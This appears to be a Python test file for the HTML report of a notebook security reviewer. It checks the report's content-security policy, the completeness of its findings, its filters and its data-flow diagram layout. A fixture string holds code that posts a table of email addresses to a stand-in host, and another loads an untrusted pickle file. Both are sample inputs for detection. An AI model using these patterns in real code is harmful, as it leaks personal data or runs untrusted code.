"""The HTML report: one file that loads nothing, runs only its own script, and shows all that a review says."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from itertools import count, islice

from reviewed import Sourced, signed, sourced, with_data

import jupyter_secai
from jupyter_secai.export import html
from jupyter_secai.export.drawing import draw
from jupyter_secai.model import Boundary, Diagram, Flow, Node

LEAKY = "import requests, pandas as pd\ndf = pd.DataFrame({'email': e})\nrequests.post('http://x.example', json=df.to_dict())"


class Page(HTMLParser):
    """Tags with their attributes, and the text of the page by tag."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.texts, self._open = [], {}, []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._open.append(tag)

    def handle_endtag(self, tag):
        while self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data):
        for tag in set(self._open):
            self.texts[tag] = self.texts.get(tag, "") + data

    def all(self, tag, **wanted):
        return [a for t, a in self.tags if t == tag and all(a.get(k) == v for k, v in wanted.items())]

    def of_class(self, name):
        return [a for _, a in self.tags if name in (a.get("class") or "").split()]


def report(*reviewed):
    text = html.render(iter(reviewed))
    return text, Page(text)


def test_nothing_is_loaded_and_nothing_else_runs(bad_notebook):
    text, page = report(with_data(sourced(bad_notebook)))
    [policy] = [m["content"] for m in page.all("meta") if m.get("http-equiv") == "Content-Security-Policy"]
    assert "default-src 'none'" in policy
    for tag, directive in {"script": "script-src", "style": "style-src"}.items():
        [content] = re.findall(f"<{tag}>(.*?)</{tag}>", text, re.S)
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert f"{directive} 'sha256-{digest}'" in policy
    assert not {"img", "link", "iframe", "object", "base"} & {tag for tag, _ in page.tags}
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "src")], tag


def test_all_that_a_review_says_is_there(bad_notebook):
    one = with_data(sourced(bad_notebook))
    card = one.review.cards[0].model_copy(update={"decision": signed()})
    item = one.review.checklist[0].model_copy(update={"signed": signed("yes")})
    review = one.review.model_copy(
        update={"cards": [card, *one.review.cards[1:]], "checklist": [item, *one.review.checklist[1:]]}
    )
    text, page = report(Sourced(review, one.text))
    shown = page.texts["body"]
    assert review.overview.sentence in shown
    for finding in review.findings:
        assert finding.rule in shown
        assert finding.title in shown
    assert "accepted by Rosa on 2026-11-20: seen by two" in shown
    assert "yes by Rosa" in shown
    for words in (
        "patients.csv",
        "diagnosis",
        "OpenAI",
        "extract.parquet",
        "This machine",
        "crosses a boundary",
        "Collect → OpenAI, sends",
        "Who could change these rows?",
        "Rows come over the network",
        "North Clinic",
        "a row each",
    ):
        assert words in shown
    assert "shoe" not in shown
    assert text.count('class="node ') == 3
    targets = {attributes["id"] for _, attributes in page.tags if "id" in attributes}
    for link in page.all("a"):
        assert link["href"].startswith("https://") or link["href"][1:] in targets


def test_findings_carry_what_the_filter_goes_by(make_notebook):
    one = sourced(make_notebook("import pickle\npickle.load(open('a.pkl', 'rb'))", LEAKY))
    text, page = report(one)
    shown = [(a["data-severity"], a["data-rule"]) for a in page.of_class("finding")]
    assert sorted(shown) == sorted((f.severity, f.rule) for f in one.review.findings)
    stages = {stage for a in page.of_class("finding") for stage in a["data-stages"].split()}
    offered = set(re.findall(r"<option>([^<]+)</option>", text))
    assert stages
    assert stages <= offered
    assert {finding.rule for finding in one.review.findings} <= offered
    assert {f.severity for f in one.review.findings} == {a["value"] for a in page.all("input")}
    [form] = page.all("form")
    assert "hidden" in form, "without a script the filter would do nothing"


def test_many_notebooks_begin_with_a_table(make_notebook, bad_notebook):
    text, page = report(
        sourced(bad_notebook, "a.ipynb"),
        sourced(make_notebook("x = 1"), "b.ipynb"),
        sourced(make_notebook("def f(:"), "c.ipynb"),
    )
    assert text.index('<h2 id="summary">3 notebooks') < text.index('<article class="notebook"')
    articles = [f"#{article['id']}" for article in page.all("article", **{"class": "notebook"})]
    assert len(set(articles)) == 3
    linked = [a["href"] for a in page.all("a") if a["href"].startswith("#n") and "-" not in a["href"]]
    assert linked[1:] == articles
    assert "Nothing was found in what could be checked." in page.texts["p"]


def test_one_review_at_a_time_is_held(make_notebook):
    """Reviews come from an iterator that counts how many of them are alive."""
    review = jupyter_secai.review(make_notebook("x = 1"))
    alive, most, number = 0, 0, count()

    class Held(Sourced):
        def __new__(cls, *_):
            nonlocal alive, most
            alive, most = alive + 1, max(most, alive + 1)
            return object.__new__(cls)

        def __del__(self):
            nonlocal alive
            alive -= 1

    pieces = html.pieces(html.tell(Held(review, "")) for _ in islice(number, 50))
    assert sum(piece.count('<article class="notebook"') for piece in pieces) == 50
    assert most <= 2


# the diagram


def apart(a, b):
    return a.x + a.width <= b.x or b.x + b.width <= a.x or a.y + a.height <= b.y or b.y + b.height <= a.y


def holds(outer, inner):
    return outer.x < inner.x and inner.x + inner.width < outer.x + outer.width and outer.y < inner.y


def test_boxes_do_not_overlap_and_frames_hold_their_own():
    kinds = ["entity", "process", "store"]
    nodes = [
        Node(id=f"{kind}{n}", kind=kind, label=f"{kind}{n}", boundary=boundary)
        for n, boundary in enumerate(["machine", "organisation", "internet"] * 3)
        for kind in kinds
        if kind != "process" or boundary == "machine"
    ]
    pairs = [(a.id, b.id) for a in nodes[:6] for b in nodes[6:12]]
    flows = [Flow(id=f"{a}-{b}", source=a, target=b, label="x") for a, b in pairs]
    bounds = [Boundary(id=b, label=b) for b in ("machine", "organisation", "internet")]
    drawing = draw(Diagram(nodes=nodes, flows=flows, boundaries=bounds))
    placed = [shape.box for shape in drawing.nodes]
    assert all(apart(a, b) for i, a in enumerate(placed) for b in placed[:i])
    frames = {shape.label: shape.box for shape in drawing.boundaries}
    assert all(apart(a, b) for a in frames.values() for b in frames.values() if a is not b)
    for node, box in zip(nodes, placed, strict=True):
        assert {name for name, frame in frames.items() if not apart(frame, box)} == {node.boundary}
        assert holds(frames[node.boundary], box)
    assert all(0 < x < drawing.width and 0 < y < drawing.height for x, y in (f.middle for f in drawing.flows))


def test_labels_are_broken_into_lines_that_fit():
    label = "customers of the northern branch 2024, exported.csv"
    node = Node(id="a", kind="store", label=label, boundary="machine")
    (shape,) = draw(Diagram(nodes=[node], boundaries=[Boundary(id="machine", label="This machine")])).nodes
    assert 1 < len(shape.lines) <= 3
    assert all(len(line) * 7 <= shape.box.width for line in shape.lines)


def test_the_order_of_elements_does_not_move_a_flow_to_another():
    one = with_data(sourced({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []})).review.diagram
    drawing = draw(one)
    assert [(f.source, f.target, f.crosses) for f in drawing.flows] == [
        ("patients.csv", "Collect", False),
        ("Collect", "OpenAI", True),
    ]
    assert drawing == draw(one)
